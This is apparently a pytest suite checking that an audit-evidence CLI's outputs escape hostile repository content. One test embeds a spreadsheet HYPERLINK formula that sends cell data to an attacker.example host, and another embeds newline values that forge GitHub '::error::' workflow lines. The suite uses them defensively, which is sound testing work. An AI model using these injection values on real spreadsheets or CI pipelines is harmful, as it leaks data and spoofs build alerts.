"""Output made from hostile repository content: every format holds it as text, none acts on it
and none fails on it (file names that are not UTF-8, formulas, forged lines).
"""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ciptool.cli import app
from conftest import (
    MINIMAL_CONTROL,
    MINIMAL_EVIDENCE,
    MakeRepo,
    brief,
    require_pdf_engine,
    run,
)

AS_OF = ["--as-of", "2026-11-15"]
GENERATED = ["--generated-at", "2026-11-15T00:00:00Z"]


#: A control file that is read, with one finding: a key controls do not have.
UNKNOWN_KEY = "controls:\n  - id: IAM-09\n    colour: red\n"


def _with_undecodable_name(make_repo: MakeRepo) -> Path:
    """A repository with a broken control file whose name holds the byte 0xff."""
    root = make_repo()
    (root / "controls" / os.fsdecode(b"bad\xff.yaml")).write_bytes(b"controls: [\n")
    return root


@pytest.mark.parametrize(
    ("output_format", "shown"),
    [
        ("json", '"file": "controls/bad\\\\xff.yaml"'),
        ("junit", 'file="controls/bad\\xff.yaml"'),
        ("github", "::error file=controls/bad\\xff.yaml,line=2,col=1,title=LD001 (ciptool)::"),
    ],
)
def test_non_utf8_file_name_is_escaped_in_check_formats(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, output_format: str, shown: str
) -> None:
    root = _with_undecodable_name(make_repo)
    out = tmp_path / f"out.{output_format}"
    args = ["check", "--repo", str(root), *AS_OF, "-f", output_format, "-o", str(out)]
    result = cli.invoke(app, args)
    assert result.exit_code == 1, result.output
    text = out.read_bytes().decode("utf-8")  # the whole document is UTF-8
    assert shown in text
    if output_format == "json":
        files = [f["file"] for f in json.loads(text)["findings"]]
        assert files == ["controls/bad\\xff.yaml"]


@pytest.mark.parametrize(
    ("kind", "doc_format"),
    [("evidence-index", f) for f in ("md", "html", "csv", "xlsx")]
    + [("audit-committee", f) for f in ("md", "html", "pdf")],
)
def test_non_utf8_file_name_does_not_stop_a_report(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, kind: str, doc_format: str
) -> None:
    root = make_repo()
    # A file that could not be read at all stops a report (it would leave out what the file
    # holds), so the control file here is read, with a finding in it (SC001).
    (root / "controls" / os.fsdecode(b"bad\xff.yaml")).write_text(UNKNOWN_KEY)
    (root / "evidence/2026/files" / os.fsdecode(b"z\xfe.csv")).write_bytes(b"a\n")
    if doc_format == "pdf":
        require_pdf_engine()
    out = tmp_path / f"report.{doc_format}"
    args = ["report", kind, "--repo", str(root), *AS_OF, *GENERATED, "-f", doc_format]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0


def test_xlsx_about_sheet_shows_a_formula_program_name_as_text(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    program = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    root = make_repo({"ciptool.yaml": f"program: '{program}'\n"})
    out = tmp_path / "index.xlsx"
    args = ["report", "evidence-index", "--repo", str(root), *AS_OF, *GENERATED, "-f", "xlsx"]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    about = load_workbook(out)["About"]
    cell = about["B2"]
    assert (about["A2"].value, cell.value) == ("Program", program.replace("''", "'"))
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_evidence_path_with_a_nul_is_a_schema_finding(make_repo: MakeRepo, cli: CliRunner) -> None:
    evidence = MINIMAL_EVIDENCE.replace("path: files/q.csv", 'path: "files/x\\0.csv"')
    root = make_repo({"evidence/2026/iam-01.yaml": evidence})
    result = run(root)
    (finding,) = [f for f in result.findings if f.severity.value == "error"]
    assert ("SC005", "evidence/2026/iam-01.yaml", 7, 16) in brief(result)
    assert finding.message == "a file path cannot hold a NUL character (\\0)"
    checked = cli.invoke(app, ["check", "--repo", str(root), *AS_OF])
    assert checked.exit_code == 1, checked.output
    # The auditor's check fails on a record it cannot read, naming why, and never crashes.
    verified = cli.invoke(app, ["evidence", "verify", "--repo", str(root)])
    assert verified.exit_code == 1, verified.output
    assert "7:16    error   SC005  a file path cannot hold a NUL character" in verified.output


LONG_NAME = "a" * 300 + ".json"


@pytest.mark.parametrize(
    ("argv", "why"),
    [
        (["check", *AS_OF, "-f", "json", "-o", "{tmp}/folder"], None),
        (["report", "evidence-index", *AS_OF, *GENERATED, "-o", "{tmp}/folder"], "Is a directory"),
        (["check", *AS_OF, "-f", "json", "-o", f"{{tmp}}/{LONG_NAME}"], "File name too long"),
        (
            ["report", "evidence-index", *AS_OF, *GENERATED, "-o", f"{{tmp}}/{LONG_NAME}"],
            "File name too long",
        ),
        (["init", "{tmp}/dangling"], "File exists"),
        (["init", "{tmp}/regular"], "{tmp}/regular is a file, not a folder"),
    ],
    ids=[
        "check-folder",
        "report-folder",
        "check-long",
        "report-long",
        "init-dangling",
        "init-file",
    ],
)
def test_an_output_the_system_refuses_is_a_usage_error(
    make_repo: MakeRepo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
    why: str | None,
) -> None:
    root = make_repo()
    (tmp_path / "folder").mkdir()
    (tmp_path / "dangling").mkdir()
    (tmp_path / "dangling" / "ciptool.yaml").symlink_to(tmp_path / "nowhere")
    (tmp_path / "regular").write_text("a file\n", encoding="utf-8")
    monkeypatch.chdir(root)
    args = [part.replace("{tmp}", str(tmp_path)) for part in argv]
    outcome = CliRunner().invoke(app, args)
    assert outcome.exception is None or isinstance(outcome.exception, SystemExit)
    assert outcome.exit_code == 2, outcome.output
    if why is None:  # the command line refuses it before the run
        assert f"'{tmp_path}/folder' is a directory" in outcome.output
    else:
        target = args[-1] if argv[0] != "init" else f"{args[-1]}/ciptool.yaml"
        why = why.replace("{tmp}", str(tmp_path))
        assert f"ciptool: cannot write {target}: {why}\n" in outcome.output
    assert "Traceback" not in outcome.output


def test_a_full_disk_is_a_usage_error_and_a_cache_it_stops_is_skipped(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_repo()

    def full(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("ciptool.fileio.atomic.tempfile.mkstemp", full)
    out = tmp_path / "out.json"
    outcome = cli.invoke(app, ["check", "--repo", str(root), *AS_OF, "-f", "json", "-o", str(out)])
    assert outcome.exit_code == 2, outcome.output
    assert f"ciptool: cannot write {out}: No space left on device\n" in outcome.output
    assert "Traceback" not in outcome.output


FORGED = "\n::error::FORGED"


def test_a_newline_in_a_value_or_file_name_starts_no_line(
    make_repo: MakeRepo, cli: CliRunner
) -> None:
    control = MINIMAL_CONTROL.replace(
        "title: Quarterly access recertification", 'title: "Quarterly\\n::error::FORGED"'
    ).replace("owner: IAM lead", 'owner: "a\\n::error::FORGED"')
    invalid = MINIMAL_CONTROL.replace("IAM-01", "IAM-02").replace(
        "policy: POL-ACCESS", 'policy: "POL-X\\n::error::FORGED"'
    )
    root = make_repo(
        {
            "controls/iam.yaml": control,
            "controls/invalid.yaml": invalid,
            f"controls/x{FORGED}.yaml": "controls: [\n",
        }
    )
    outputs = []
    for argv in (
        ["check", *AS_OF],
        ["check", *AS_OF, "-f", "github"],
        ["explain", "IAM-01", *AS_OF],
    ):
        outcome = cli.invoke(app, [*argv, "--repo", str(root)])
        assert outcome.exit_code in {0, 1}, outcome.output
        outputs.append(outcome.output)
    lines = "".join(outputs).splitlines()
    assert [line for line in lines if "FORGED" in line and not line.startswith(("::", " "))] == [
        "controls/x\\x0a::error::FORGED.yaml",
        "IAM-01: Quarterly\\x0a::error::FORGED",
        "owner:     a\\x0a::error::FORGED",
        # explain names the file it could not read, escaped as check does
        "controls/x\\x0a::error::FORGED.yaml:2:1: error LD001 YAML syntax error: did not find"
        " expected node content (while parsing a flow node)",
    ]
    assert not [line for line in lines if line.lstrip().startswith("::error::FORGED")]
    assert any(line.startswith("::error file=controls/invalid.yaml") for line in lines)
